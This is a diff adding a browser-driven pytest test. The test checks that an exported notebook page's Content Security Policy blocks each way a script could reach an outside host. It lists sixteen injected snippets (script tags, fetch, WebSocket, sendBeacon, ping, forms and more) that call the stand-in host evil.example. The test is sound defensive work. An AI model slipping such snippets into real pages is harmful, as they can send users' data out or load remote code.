@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Callable
 from pathlib import Path
+from urllib.parse import urlparse
 
 import nbformat
 import pytest
@@ -65,6 +66,53 @@ def test_an_export_runs_nothing_and_asks_for_nothing(
     assert page.locator(f"{live}, [onload]").count() == 0
     links = page.locator("a[href]").evaluate_all("(all) => all.map((one) => one.protocol)")
     assert set(links) <= {"http:", "https:", "mailto:", "file:"}  # file: within the page
+    context.close()
+
+
+EVIL = "https://evil.example/x"
+# What a script of the page would do, and which part of the policy says no.
+WAYS = {
+    "an image": (f"add('<img src={EVIL}>')", "img-src"),
+    "an image of a style": (f"add('<p style=\"background:url({EVIL})\">x</p>')", "img-src"),
+    "a font": (f"new FontFace('x', 'url({EVIL})').load().catch(() => {{}})", "font-src"),
+    "a style sheet": (f"add('<link rel=stylesheet href={EVIL}>')", "style-src-elem"),
+    "a script": (
+        f"document.body.append(Object.assign(document.createElement('script'), {{src: '{EVIL}'}}))",
+        "script-src-elem",
+    ),
+    "fetch": (f"fetch('{EVIL}').catch(() => {{}})", "connect-src"),
+    "a WebSocket": ("new WebSocket('wss://evil.example/x')", "connect-src"),
+    "an event stream": (f"new EventSource('{EVIL}')", "connect-src"),
+    "a beacon": (f"navigator.sendBeacon('{EVIL}', 'x')", "connect-src"),
+    "ping": (f"add('<a href=# ping={EVIL}>x</a>'); added().click()", "connect-src"),
+    "a frame": (f"add('<iframe src={EVIL}></iframe>')", "frame-src"),
+    "a video": (f"add('<video src={EVIL}></video>')", "media-src"),
+    "an object": (f"add('<object data={EVIL}></object>')", "object-src"),
+    "prefetching": (f"add('<link rel=prefetch href={EVIL}>')", "default-src"),
+    "a form": (f"add('<form action={EVIL}></form>'); added().submit()", "form-action"),
+    "a base": (f"add('<base href={EVIL}>')", "base-uri"),
+}
+
+
+@pytest.mark.parametrize(("does", "part"), WAYS.values(), ids=WAYS)
+def test_the_policy_of_an_exported_page_refuses_each_kind_of_connection(
+    does: str, part: str, browser: Browser, tmp_path: Path
+) -> None:
+    path = tmp_path / "export.html"
+    path.write_text(html_of(document_with(["hello"])), encoding="utf-8")
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(path.as_uri())
+    refused = page.evaluate(
+        f"""new Promise((done) => {{
+          document.addEventListener("securitypolicyviolation", (refused) => done(refused));
+          const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
+          const added = () => document.body.lastElementChild;
+          {does};
+        }}).then(({{ effectiveDirective, blockedURI }}) => [effectiveDirective, blockedURI])"""
+    )
+    assert refused[0] == part
+    assert urlparse(refused[1]).hostname == "evil.example"
     context.close()
 
 
